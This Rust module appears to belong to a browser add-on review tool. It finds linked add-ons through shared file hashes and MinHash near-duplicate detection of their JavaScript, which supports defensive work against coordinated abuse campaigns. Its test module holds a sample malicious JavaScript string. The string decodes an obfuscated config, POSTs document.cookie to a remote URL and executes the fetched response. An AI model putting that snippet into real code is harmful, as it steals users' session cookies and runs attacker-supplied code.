//! Linked add-ons: which other cached add-ons, from any developer, carry the same files or
//! near-identical code as the one under review. Coordinated abuse ships one payload under many
//! names; a reviewer who sees the link reviews the family, not one member.
//!
//! Two kinds of evidence:
//! - **Shared files** by sha256 (the cache's `files` view gives this for free). A file held by
//!   many add-ons is a library (jQuery, a polyfill) and says little; it is weighted by inverse
//!   popularity and flagged `library`, so rare overlaps rank first.
//! - **Near-duplicate JavaScript**: a MinHash sketch of each JS blob's 5-token shingles, with
//!   local (non-property) identifiers normalised to one placeholder so that renaming variables
//!   keeps the sketch. The sketches' LSH band keys are rows of an indexed table, so a lookup is a
//!   few index probes per file rather than a comparison with every cached file.
//!
//! Sketches are computed by [`catch_up`], which every lookup runs first: each JS blob is
//! sketched once, whichever import brought it.

use std::collections::{BTreeMap, HashMap, HashSet};

use serde::Serialize;
use ts_rs::TS;

use vetter_capabilities::fingerprint::{band_keys, decode, encode, similarity, sketch};
use vetter_store::{Store, StoreError};

/// Estimated Jaccard similarity from which two files count as near-duplicates.
pub const NEAR_DUPLICATE: f64 = 0.6;
/// Files smaller than this are ignored for shared-file evidence (empty files, one-line stubs).
pub const MIN_SHARED_SIZE: u64 = 128;

/// Why a lookup failed.
#[derive(Debug, thiserror::Error)]
pub enum LinkError {
    /// No cached add-on has this identity (or version id).
    #[error("no cached add-on {0:?} (give its gecko id or the id of one of its versions)")]
    UnknownAddon(String),
    /// The cache could not be read.
    #[error(transparent)]
    Store(#[from] StoreError),
}

/// One file held by both add-ons.
#[derive(Debug, Clone, PartialEq, Serialize, TS)]
#[ts(export)]
pub struct SharedFile {
    /// Its sha256.
    pub sha256: String,
    /// Its size in bytes.
    #[ts(type = "number")]
    pub size: u64,
    /// Its path in the add-on under review.
    pub path: String,
    /// Its path in the other add-on.
    pub other_path: String,
    /// How many cached add-ons hold these exact bytes.
    pub addons_with_it: u32,
    /// Held by so many add-ons that it is taken for a library.
    pub library: bool,
}

/// A JavaScript file of the other add-on that is nearly the same code.
#[derive(Debug, Clone, PartialEq, Serialize, TS)]
#[ts(export)]
pub struct NearDuplicate {
    /// The file in the add-on under review.
    pub path: String,
    /// The file in the other add-on.
    pub other_path: String,
    /// Estimated Jaccard similarity of their normalised shingles, 0 to 1.
    pub similarity: f64,
}

/// Another add-on and what links it to the one under review.
#[derive(Debug, Clone, PartialEq, Serialize, TS)]
#[ts(export)]
pub struct LinkedAddon {
    /// Its identity.
    pub guid: String,
    /// Its latest name.
    pub name: String,
    /// Whether anything beyond libraries links them (a rare shared file or near-identical code).
    pub linked: bool,
    /// Ranking score: rare evidence weighs most.
    pub score: f64,
    /// Files with identical bytes.
    pub shared_files: Vec<SharedFile>,
    /// Near-identical JavaScript.
    pub near_duplicates: Vec<NearDuplicate>,
}

/// Everything linked to one add-on, strongest first.
#[derive(Debug, Clone, PartialEq, Serialize, TS)]
#[ts(export)]
pub struct LinkReport {
    /// The add-on under review.
    pub guid: String,
    /// Cached add-ons in all.
    pub addons_in_cache: u32,
    /// A file is taken for a library when at least this many add-ons hold it.
    pub library_threshold: u32,
    /// The other add-ons, linked ones first, then by score.
    pub links: Vec<LinkedAddon>,
}

/// How many add-ons must hold a file for it to count as a library: at least 3, and at least
/// 5% of the cache, so a big cache does not call a ten-member campaign's payload a library.
pub fn library_threshold(addons: u32) -> u32 {
    3.max(addons.div_ceil(20))
}

/// Sketches every JavaScript blob not sketched yet, in one transaction; returns how many.
pub fn catch_up(store: &mut Store) -> Result<u64, LinkError> {
    Ok(store.sketch_pending_js(&mut |data| {
        sketch(&String::from_utf8_lossy(data)).map(|s| (encode(&s), band_keys(&s)))
    })?)
}

/// The add-ons linked to `addon` (a gecko id, `noid:` identity, or a version id), over all its
/// cached versions.
pub fn links_for(store: &mut Store, addon: &str) -> Result<LinkReport, LinkError> {
    let (addon_id, guid) = store
        .addon_named(addon)?
        .ok_or_else(|| LinkError::UnknownAddon(addon.to_owned()))?;
    catch_up(store)?;
    let addons_in_cache = store.addon_count()?;
    let threshold = library_threshold(addons_in_cache);

    // The add-on's own blobs: id -> (path, sha256, size).
    let mut own: BTreeMap<i64, (String, String, u64)> = BTreeMap::new();
    for (id, path, sha, size) in store.addon_blobs(addon_id)? {
        own.entry(id).or_insert((path, sha, size));
    }

    let mut others: HashMap<i64, LinkedAddon> = HashMap::new();
    let popularity_of = |blob: i64| store.blob_popularity(blob);
    let holders = |blob: i64| store.blob_holders(blob, addon_id);
    let entry = |others: &mut HashMap<i64, LinkedAddon>, id: i64, guid: String, name: String| {
        others.entry(id).or_insert_with(|| LinkedAddon {
            guid,
            name,
            linked: false,
            score: 0.0,
            shared_files: Vec::new(),
            near_duplicates: Vec::new(),
        });
    };
    let total = f64::from(addons_in_cache.max(2));
    let mut popular: HashSet<i64> = HashSet::new();
    for (&blob, (path, sha, size)) in &own {
        if *size < MIN_SHARED_SIZE {
            continue;
        }
        let pop = popularity_of(blob)?;
        let library = pop >= threshold;
        if library {
            popular.insert(blob);
        }
        if pop < 2 {
            continue;
        }
        let rows = holders(blob)?;
        let mut seen = HashSet::new();
        for (other, oguid, oname, opath) in rows {
            if !seen.insert(other) {
                continue;
            }
            entry(&mut others, other, oguid, oname);
            let link = others.get_mut(&other).expect("inserted above");
            // Inverse popularity: a file two add-ons share says far more than one fifty share.
            let weight = (total / f64::from(pop)).ln().max(0.05);
            link.score += if library { weight * 0.1 } else { weight };
            link.linked |= !library;
            link.shared_files.push(SharedFile {
                sha256: sha.clone(),
                size: *size,
                path: path.clone(),
                other_path: opath,
                addons_with_it: pop,
                library,
            });
        }
    }

    // Near-duplicates of the add-on's non-library JS.
    let mut best: HashMap<(i64, String), (String, f64)> = HashMap::new();
    for (&blob, (path, _, _)) in &own {
        if popular.contains(&blob) {
            continue;
        }
        let Some(bytes) = store.blob_sketch(blob)? else {
            continue;
        };
        let Some(mine) = decode(&bytes) else { continue };
        let mut cand: HashSet<i64> = HashSet::new();
        for key in band_keys(&mine) {
            cand.extend(store.band_members(key)?);
        }
        cand.remove(&blob);
        for other_blob in cand {
            let Some(ob) = store.blob_sketch(other_blob)? else {
                continue;
            };
            let Some(theirs) = decode(&ob) else { continue };
            let sim = similarity(&mine, &theirs);
            if sim < NEAR_DUPLICATE || popularity_of(other_blob)? >= threshold {
                continue;
            }
            let rows = holders(other_blob)?;
            for (other, oguid, oname, opath) in rows {
                entry(&mut others, other, oguid, oname);
                let key = (other, path.clone());
                let slot = best.entry(key).or_insert((opath.clone(), 0.0));
                if sim > slot.1 {
                    *slot = (opath, sim);
                }
            }
        }
    }
    for ((other, path), (other_path, sim)) in best {
        let link = others.get_mut(&other).expect("inserted with its candidate");
        // Identical bytes are already counted as a shared file.
        if link
            .shared_files
            .iter()
            .any(|s| s.path == path && s.other_path == other_path)
        {
            continue;
        }
        link.linked = true;
        link.score += sim * (total / 2.0).ln().max(1.0);
        link.near_duplicates.push(NearDuplicate {
            path,
            other_path,
            similarity: sim,
        });
    }
    let mut links: Vec<LinkedAddon> = others.into_values().collect();
    for l in &mut links {
        l.shared_files
            .sort_by(|a, b| (a.library, &a.path).cmp(&(b.library, &b.path)));
        l.near_duplicates.sort_by(|a, b| {
            b.similarity
                .total_cmp(&a.similarity)
                .then_with(|| a.path.cmp(&b.path))
        });
    }
    links.sort_by(|a, b| {
        b.linked
            .cmp(&a.linked)
            .then_with(|| b.score.total_cmp(&a.score))
            .then_with(|| a.guid.cmp(&b.guid))
    });
    Ok(LinkReport {
        guid,
        addons_in_cache,
        library_threshold: threshold,
        links,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const CODE: &str = "function decode(payload, key) { var out = []; for (var i = 0; i < payload.length; i++) { out.push(String.fromCharCode(payload.charCodeAt(i) ^ key.charCodeAt(i % key.length))); } return out.join(''); } var cfg = decode(atob(data), 'k3y'); fetch(cfg.url, { method: 'POST', body: document.cookie }).then(function (r) { return r.text(); }).then(function (t) { new Function(t)(); });";

    #[test]
    fn renamed_identifiers_keep_the_sketch() {
        let renamed = CODE
            .replace("decode", "q")
            .replace("payload", "a")
            .replace("out", "b")
            .replace("cfg", "z");
        let a = sketch(CODE).unwrap();
        let b = sketch(&renamed).unwrap();
        assert!(similarity(&a, &b) > 0.95, "{}", similarity(&a, &b));
    }

    #[test]
    fn different_code_sketches_apart() {
        let other = "class Widget extends Base { constructor(el) { super(el); this.el = el; this.items = new Map(); } render() { const ul = document.createElement('ul'); for (const [k, v] of this.items) { const li = document.createElement('li'); li.textContent = k + ': ' + v; ul.appendChild(li); } this.el.replaceChildren(ul); } }";
        let a = sketch(CODE).unwrap();
        let b = sketch(other).unwrap();
        assert!(similarity(&a, &b) < 0.3, "{}", similarity(&a, &b));
    }

    #[test]
    fn tiny_files_are_not_sketched() {
        assert!(sketch("a=1;").is_none());
    }

    #[test]
    fn library_threshold_grows_with_the_cache() {
        assert_eq!(library_threshold(4), 3);
        assert_eq!(library_threshold(1000), 50);
    }
}
